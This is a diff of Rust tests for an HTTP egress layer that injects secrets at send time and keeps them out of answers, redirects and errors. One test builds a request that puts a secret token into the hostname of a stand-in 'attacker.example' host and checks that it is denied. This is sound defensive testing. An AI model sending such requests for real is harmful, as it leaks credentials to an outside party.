@@ -3,29 +3,43 @@
 //! Length: one server and one set of helpers serve every case.
 
 use super::*;
-use mainstay_domain::{blob::Blob, effect::HttpMethod};
+use mainstay_domain::{blob::Blob, effect::HttpMethod, name::SecretName};
 use std::sync::Mutex;
 use tokio::{
     io::{AsyncReadExt, AsyncWriteExt},
     net::TcpListener,
 };
 
-/// `${secret:token}` is `hunter22`.
+mod alerts;
+
+/// `token` is `hunter22`.
 struct OneSecret;
 
 impl Secrets for OneSecret {
-    fn reveal(&self, text: &str) -> Result<String, String> {
-        match text.replace("${secret:token}", "hunter22") {
-            revealed if revealed.contains("${secret:") => Err("secret is not known".to_owned()),
-            revealed => Ok(revealed),
+    fn value(&self, name: &SecretName) -> Result<String, String> {
+        match name.as_str() {
+            "token" => Ok("hunter22".to_owned()),
+            other => Err(format!("secret `{other}` is not known")),
         }
     }
 
     fn conceal(&self, bytes: Vec<u8>) -> Vec<u8> {
         String::from_utf8_lossy(&bytes)
-            .replace("hunter22", "${secret:token}")
+            .replace("hunter22", "[secret:token]")
             .into_bytes()
     }
+}
+
+/// Those of a call that may use two secrets, one of which has no value.
+fn handles() -> Arc<SecretHandles> {
+    let names = ["token", "none"].map(|name| SecretName::parse(name).unwrap());
+    Arc::new(SecretHandles::draw(&[7; 32], &names.into()))
+}
+
+/// What the guest of that call sees of an operator's text.
+fn seen(text: &str) -> String {
+    let seen = handles().put_into(&text.into());
+    seen.as_str().unwrap().to_owned()
 }
 
 /// Answers every request with what `answer` makes of it, and closes the connection; an empty answer closes at once.
@@ -126,10 +140,7 @@ async fn send_bounded(
         .send(
             request,
             granted,
-            [SecretName::parse("token"), SecretName::parse("none")]
-                .into_iter()
-                .collect::<Result<_, _>>()
-                .unwrap(),
+            handles(),
             Some("op-1/3".to_owned()),
             timeout,
             max_bytes,
@@ -146,13 +157,14 @@ async fn secrets_go_in_at_egress_and_come_out_of_the_answer() {
     let server =
         Server::start(|request| ok(request).replacen("\r\n", "\r\nx-echo: <hunter22>\r\n", 1))
             .await;
-    let mut request = request(HttpMethod::Post, server.url("/a?t=${secret:token}"));
+    let token = seen("${secret:token}");
+    let mut request = request(HttpMethod::Post, server.url(&format!("/a?t={token}")));
     request.headers = headers(&[
-        ("Authorization", "Bearer ${secret:token}"),
+        ("Authorization", format!("Bearer {token}").as_str()),
         ("X-Two", "1"),
         ("x-two", "2"),
     ]);
-    request.body = b"{\"token\":\"${secret:token}\"}".to_vec().into();
+    request.body = format!("{{\"token\":\"{token}\"}}").into_bytes().into();
     let response = send(request, &[&server.origin]).await.unwrap();
     let heard = server.heard().remove(0);
     for part in [
@@ -169,11 +181,11 @@ async fn secrets_go_in_at_egress_and_come_out_of_the_answer() {
     assert!(
         response
             .headers
-            .contains(&("x-echo".to_owned(), "<${secret:token}>".to_owned()))
+            .contains(&("x-echo".to_owned(), "<[secret:token]>".to_owned()))
     );
     let body = String::from_utf8(response.body.0).unwrap();
     assert!(
-        body.contains("/a?t=${secret:token}") && !body.contains("hunter22"),
+        body.contains("/a?t=[secret:token]") && !body.contains("hunter22"),
         "{body}"
     );
 }
@@ -209,11 +221,13 @@ async fn what_is_not_granted_is_denied_and_nothing_is_sent() {
         "{error}"
     );
     // A secret as a part of the address is told to nobody, not even to a name server.
-    let sneaky = request(
-        HttpMethod::Get,
-        "http://${secret:token}.attacker.example/".to_owned(),
-    );
+    let written = "http://${secret:token}.attacker.example/";
+    let sneaky = request(HttpMethod::Get, seen(written));
     let error = send(sneaky, &[&server.origin]).await.unwrap_err();
+    assert!(
+        matches!(&error, EffectError::Denied(why) if why.contains(written)),
+        "{error}"
+    );
     assert!(!error.to_string().contains("hunter22"), "{error}");
     let userinfo = request(
         HttpMethod::Get,
@@ -238,7 +252,7 @@ async fn headers_of_the_host_are_denied_and_broken_ones_fail() {
         ("x", "${secret:none}", false),
     ] {
         let mut request = request(HttpMethod::Get, server.url("/"));
-        request.headers = headers(&[(name, value)]);
+        request.headers = headers(&[(name, seen(value).as_str())]);
         let error = send(request, &[&server.origin]).await.unwrap_err();
         let as_expected = match denied {
             true => matches!(error, EffectError::Denied(_)),
@@ -250,23 +264,37 @@ async fn headers_of_the_host_are_denied_and_broken_ones_fail() {
 }
 
 #[tokio::test]
-async fn a_secret_that_the_plugin_may_not_use_is_denied_wherever_it_stands() {
+async fn the_name_of_a_secret_is_sent_as_the_text_that_it_is() {
     let server = Server::start(|_| ok("")).await;
-    let placeholder = "x${secret:token}${secret:api-token}";
-    let mut in_header = request(HttpMethod::Get, server.url("/"));
-    in_header.headers = headers(&[("x", placeholder)]);
-    let mut in_body = request(HttpMethod::Post, server.url("/"));
-    in_body.body = placeholder.as_bytes().to_vec().into();
-    let in_url = request(HttpMethod::Get, server.url("/?t=${secret:api-token}"));
-    for request in [in_url, in_header, in_body] {
-        let error = send(request, &[&server.origin]).await.unwrap_err();
-        assert!(
-            matches!(&error, EffectError::Denied(why)
-                if why.contains("secret `api-token`; the operator allows it by writing ${secret:api-token}")),
-            "{error}"
-        );
+    // Its own, one that nobody has, what is no name, and what does not end.
+    let text = "${secret:token}${secret:nosuch}${secret:A}${secret:";
+    let mut request = request(HttpMethod::Post, server.url(&format!("/?t={text}")));
+    request.headers = headers(&[("x-text", text)]);
+    request.body = text.as_bytes().to_vec().into();
+    send(request, &[&server.origin]).await.unwrap();
+    let heard = server.heard().remove(0);
+    for part in [
+        format!("POST /?t={text} HTTP/1.1\r\n"),
+        format!("\r\nx-text: {text}\r\n"),
+        format!("\r\n\r\n{text}"),
+    ] {
+        assert!(heard.contains(&part), "{part} is not in {heard}");
     }
-    assert_eq!(server.heard(), [""; 0]);
+    assert!(!heard.contains("hunter22"), "{heard}");
+}
+
+#[tokio::test]
+async fn a_handle_of_another_call_is_sent_as_the_text_that_it_is() {
+    let server = Server::start(|_| ok("")).await;
+    let token = SecretName::parse("token").unwrap();
+    let earlier = SecretHandles::draw(&[8; 32], &[token].into());
+    let earlier = earlier.put_into(&"${secret:token}".into());
+    let earlier = earlier.as_str().unwrap();
+    let mut request = request(HttpMethod::Post, server.url("/"));
+    request.body = earlier.as_bytes().to_vec().into();
+    send(request, &[&server.origin]).await.unwrap();
+    let heard = server.heard().remove(0);
+    assert!(heard.ends_with(earlier), "{heard}");
 }
 
 #[tokio::test]
@@ -278,7 +306,7 @@ async fn a_redirect_is_followed_within_the_grant_only() {
     request.headers = headers(&[
         ("authorization", "Basic abc"),
         ("cookie", "a=b"),
-        ("x-token", "${secret:token}"),
+        ("x-token", seen("${secret:token}").as_str()),
         ("x-plain", "1"),
         ("content-type", "text/plain"),
     ]);
@@ -351,7 +379,9 @@ async fn redirects_change_the_method_as_rfc_9110_says() {
 
 #[tokio::test]
 async fn a_redirect_is_no_place_for_secrets_and_has_an_end() {
-    let server = Server::start(|_| redirect(302, "/again?${secret:token}")).await;
+    // Not even where the server knows the handle.
+    let location = format!("/again?${{secret:token}}&{}", seen("${secret:token}"));
+    let server = Server::start(move |_| redirect(302, &location)).await;
     let error = send(request(HttpMethod::Get, server.url("/")), &[&server.origin])
         .await
         .unwrap_err();
@@ -397,7 +427,8 @@ async fn only_what_was_certainly_not_sent_is_unavailable() {
         port,
     };
     // Bound and never accepted: it connects, and no answer comes.
-    let url = format!("http://127.0.0.1:{port}/?${{secret:token}}");
+    let written = format!("http://127.0.0.1:{port}/?${{secret:token}}");
+    let url = seen(&written);
     let granted = [&origin];
     let silent = send_bounded(
         request(HttpMethod::Post, url.clone()),
@@ -407,7 +438,7 @@ async fn only_what_was_certainly_not_sent_is_unavailable() {
     );
     let error = silent.await.unwrap_err();
     assert!(
-        matches!(&error, EffectError::TimedOut(why) if why.contains("300ms")),
+        matches!(&error, EffectError::TimedOut(why) if why.contains("300ms") && why.contains(&written)),
         "{error}"
     );
     drop(closed);
@@ -415,7 +446,7 @@ async fn only_what_was_certainly_not_sent_is_unavailable() {
         .await
         .unwrap_err();
     assert!(
-        matches!(&error, EffectError::Unavailable(why) if why.contains("refused")),
+        matches!(&error, EffectError::Unavailable(why) if why.contains("refused") && why.contains(&written)),
         "{error}"
     );
     assert!(!error.to_string().contains("hunter22"), "{error}");
